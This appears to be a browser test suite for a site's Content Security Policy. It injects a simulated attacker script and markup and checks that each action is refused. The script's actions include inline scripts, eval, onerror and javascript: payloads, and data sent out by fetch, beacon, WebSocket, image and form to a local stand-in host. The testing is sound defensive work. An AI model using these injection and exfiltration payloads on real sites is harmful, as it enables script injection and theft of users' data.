// The policy that every page is sent with, in a browser: nothing of ours is refused, and what gets into a page is.
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { base, cards, counting, data, dir, equal, match, none, ok, reader, soon, visit, wake } from "./help/index.mjs";
import { host } from "./help/host.mjs";

const csp = "content-security-policy";
// What each kind of page is there for; the program runs on those that say so.
const kinds = {
  "": true, "it/": true, [`cards/${cards[0].id}/`]: false, "facts/": false, "differences/": false, "sources/": false, "embed/": false, "it/embed/": false,
  "no/such/page/": false, "embed/all/": true, "embed/arms/": false, "embed/cards/": true, [`it/embed/cards/${cards[0].id}/`]: false, [`embed/differences/${data.differences[0].id}/`]: false,
};
const listen = () => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (e) => window.refused.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
};
const refused = (page) => page.evaluate(() => window.refused);

for (const [path, program] of Object.entries(kinds)) {
  reader(`nothing that a page does is refused: /${path}`, { tolerate: /status of 404/ }, async (page) => {
    await page.addInitScript(listen);
    const answer = await page.goto((await base()) + path);
    const policy = answer.headers()[csp];
    match(policy, /^default-src 'none'; /);
    match(policy, /require-trusted-types-for 'script'/);
    match(policy, /^embed\/.|^it\/embed\/./.test(path.replace(/^(it\/)?embed\/$/, "")) ? /^(?!.*frame-ancestors)/ : /frame-ancestors 'none'$/);
    equal(answer.headers()["x-content-type-options"], "nosniff");
    const runs = await page.evaluate(() => !!document.querySelector("script[data-start]"));
    if (program) ok(runs, "the program is there");
    if (runs) await wake(page);
    // A reader opens the first fold. Citations close each other, so it can take all others to have six open: the page clicks these.
    const first = page.locator("summary:visible").first();
    if (await first.count()) {
      await first.click();
      await first.evaluate(async (first) => {
        for (const s of document.querySelectorAll("summary")) {
          if (document.querySelectorAll("details[open]").length > 5) break;
          if (s !== first && s.checkVisibility()) s.click();
        }
        for (let i = 0; i < 2; i++) await new Promise(requestAnimationFrame);
      });
    }
    equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), "rgb(251, 250, 247)", "the styles are there");
    none(await refused(page), "refused");
  });
}

reader("the worker may do its work under its policy", { serviceWorkers: "allow" }, async (page) => {
  await page.addInitScript(listen);
  await visit(page);
  await soon(() => page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.active?.state), "activated", "the worker is active", 20000);
  none(await refused(page), "refused");
});

// What an attacker would do who got a script of theirs onto our own host and into a page.
const attacks = {
  "an inline script": () => { const s = document.createElement("script"); s.append("window.hit = 1"); document.body.append(s); },
  "a handler in an attribute": () => { const b = document.createElement("button"); b.setAttribute("onclick", "window.hit = 1"); document.body.append(b); b.click(); },
  "HTML as a string": () => { document.createElement("div").innerHTML = "<p>words"; window.hit = 1; },
  "HTML beside an element": () => { document.body.insertAdjacentHTML("beforeend", "<p>words"); window.hit = 1; },
  "a document written anew": () => { document.write("<p>words"); window.hit = 1; },
  "code as a string": () => { (0, eval)("window.hit = 1"); },
  "a function made of a string": () => { new Function("window.hit = 1")(); },
  "a timer with code": () => { setTimeout("window.hit = 1"); },
  "a script's address as a string": () => { const s = document.createElement("script"); s.src = location.origin + "/embed.js"; window.hit = 1; },
  "a policy of their own": () => { trustedTypes.createPolicy("theirs", { createHTML: (s) => s }); window.hit = 1; },
  "a module as data": () => import("data:text/javascript,window.hit=1"),
  "a module from elsewhere": () => import("http://localhost:9/theirs.js"),
  "another base": () => { const b = document.createElement("base"); b.href = "http://localhost:9/"; document.head.append(b); if (document.baseURI.includes("localhost")) window.hit = 1; },
  "a form that sends away": () => { const f = document.createElement("form"); f.action = "http://localhost:9/"; f.method = "post"; document.body.append(f); const send = () => setTimeout(() => f.submit(), 20); document.readyState === "complete" ? send() : addEventListener("load", send); },
  "a message to elsewhere": () => fetch("http://localhost:9/home"),
  "a beacon": () => { navigator.sendBeacon("http://localhost:9/home", "words"); },
  "a socket": () => { new WebSocket("ws://localhost:9/"); },
  "a style in an attribute": () => { document.body.setAttribute("style", "opacity: 0.5"); if (document.body.style.opacity) window.hit = 1; },
  "a style sheet": () => { const s = document.createElement("style"); s.append("body { opacity: 0.5 }"); document.head.append(s); if (getComputedStyle(document.body).opacity !== "1") window.hit = 1; },
  "a picture that counts": () => { new Image().src = "http://localhost:9/count.gif"; },
  "a frame of elsewhere": () => { const f = document.createElement("iframe"); f.src = "http://localhost:9/"; document.body.append(f); },
  "a plugin": () => { const o = document.createElement("object"); o.data = "http://localhost:9/"; document.body.append(o); },
};
const markup = `<script>window.hit = 1</script><img src="x" onerror="window.hit = 1"><svg onload="window.hit = 1"></svg><iframe srcdoc="<script>parent.hit = 1</script>"></iframe><style>body { opacity: 0.5 }</style><a id="lure" href="javascript:window.hit = 1">words</a>`;

for (const path of ["", "embed/cards/", "embed/"]) {
  reader(`what gets into a page can do nothing: /${path}`, { tolerate: /./ }, async (page, ctx, t) => {
    const at = await base();
    let script, more = "";
    await ctx.addInitScript(listen);
    await ctx.route(at + "attack.js", (route) => route.fulfill({ contentType: "text/javascript", body: script }));
    await ctx.route(at + path, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace("</body>", () => `${more}<script src="${at}attack.js"></script></body>`) });
    });
    const arrived = [];
    const elsewhere = createServer((req, res) => { arrived.push(req.url); res.end(); }).on("upgrade", (req, socket) => { arrived.push(req.url); socket.destroy(); }).listen(0, "localhost");
    t.after(() => elsewhere.close());
    await once(elsewhere, "listening");
    const there = `localhost:${elsewhere.address().port}`;
    // An attack has half a minute to be refused, and a moment more to show what it did.
    const open = async (refusals) => {
      await page.goto(at + path);
      await soon(() => page.evaluate(() => window.ran), true, "the script from our own host runs");
      await page.waitForFunction((n) => window.refused.length >= n, refusals, { timeout: 30_000 }).catch(() => {});
      await page.waitForTimeout(60);
      return page.evaluate(() => ({ hit: window.hit ?? 0, refused: window.refused, opacity: getComputedStyle(document.body).opacity }));
    };
    script = "window.ran = true";
    const before = await open(0);
    equal(before, { hit: 0, refused: [], opacity: "1" }, "without an attack nothing is refused");
    const wrong = [];
    for (const [what, attack] of Object.entries(attacks)) {
      script = `window.ran = true; Promise.resolve().then(${attack}).catch(() => {})`.replaceAll("localhost:9", there);
      const after = await open(1).catch((e) => { throw new Error(what + ": " + e.message); });
      if (after.hit || !after.refused.length || after.opacity !== "1") wrong.push(`${what}: ${JSON.stringify(after)}`);
    }
    none(wrong, "not refused", Object.keys(attacks).length);
    script = "window.ran = true";
    more = markup;
    const after = await open(5);
    await page.locator("#lure").click();
    await page.waitForTimeout(60);
    equal(await page.evaluate(() => window.hit ?? 0), 0, "markup of theirs does nothing");
    equal(after.opacity, "1");
    ok(after.refused.length >= 5, `the browser refused ${after.refused.join(", ")}`);
    equal(arrived, [], "nothing went elsewhere");
    ctx.noted.length = 0; // the browser tells of requests that it refused, too
  });
}

// A host that sends no headers, and one that changes a file on its way.
reader("where the host sends no policy, the page brings its own", { tolerate: /./ }, async (page) => {
  const site = await host(dir);
  await page.addInitScript(listen);
  for (const path of ["", `cards/${cards[0].id}/`, "embed/", "embed/cards/"]) {
    const answer = await page.goto(site.url + path);
    equal(answer.headers()[csp], undefined);
    if (await page.evaluate(() => !!document.querySelector("script[data-start]"))) await wake(page);
    none(await refused(page), "refused");
    const hit = await page.evaluate(() => {
      const b = document.createElement("button");
      try { b.setAttribute("onclick", "window.hit = 1"); } catch {}
      document.body.append(b);
      b.click();
      try { b.innerHTML = "<i>"; window.hit = 2; } catch {}
      return window.hit ?? 0;
    });
    equal(hit, 0, `/${path} lets nothing in`);
  }
  await site.stop();
});

for (const [what, changed] of Object.entries({ "the boot script": /^assets\/boot\./, "the second stage": /^assets\/start\./, "the program": /\.wasm$/, "the content": /^assets\/content-/, "the script of an embed": /^assets\/guest\./ })) {
  reader(`a host that changes ${what} is not believed`, { tolerate: /./ }, async (page) => {
    const site = await host(dir, "/", (name, body) => (changed.test(name) ? Buffer.concat([Buffer.from(name.endsWith(".js") ? "window.hit = 1;" : ""), body, Buffer.from("\n")]) : body));
    await page.goto(site.url + "embed/cards/");
    await page.keyboard.press("Shift");
    if (/stage|program|content/.test(what)) await soon(() => page.locator("html").getAttribute("data-app"), "failed", "the page says that it did not work");
    else await page.waitForTimeout(300);
    equal(await page.evaluate(() => window.hit), undefined);
    ok((await page.locator("main").innerText()).length > 400, "and can be read");
    await site.stop();
  });
}

// Google's evaluator of policies, and Mozilla's.
counting("Google's evaluator finds nothing of weight in any policy", async () => {
  const { CspEvaluator } = await import("csp_evaluator/dist/evaluator.js").then((m) => m.default ?? m);
  const { CspParser } = await import("csp_evaluator/dist/parser.js").then((m) => m.default ?? m);
  const { Severity } = await import("csp_evaluator/dist/finding.js").then((m) => m.default ?? m);
  const policies = new Set([...readFileSync(join(dir, "_headers"), "utf8").matchAll(/Content-Security-Policy: (.*)/g)].map((m) => m[1]));
  for (const path of Object.keys(kinds)) policies.add((await fetch((await base()) + path, { headers: { "x-forwarded-proto": "https" } })).headers.get(csp));
  ok(policies.size >= 5, `there are ${policies.size} policies`);
  const found = (policy) => new CspEvaluator(new CspParser(policy).csp).evaluate().filter((f) => f.severity <= Severity.HIGH_MAYBE).map((f) => `${f.directive}: ${f.description} (${policy})`);
  ok(found("script-src 'unsafe-inline' *").length > 0, "it would find a bad one");
  none([...policies].flatMap(found), "found", policies.size);
});
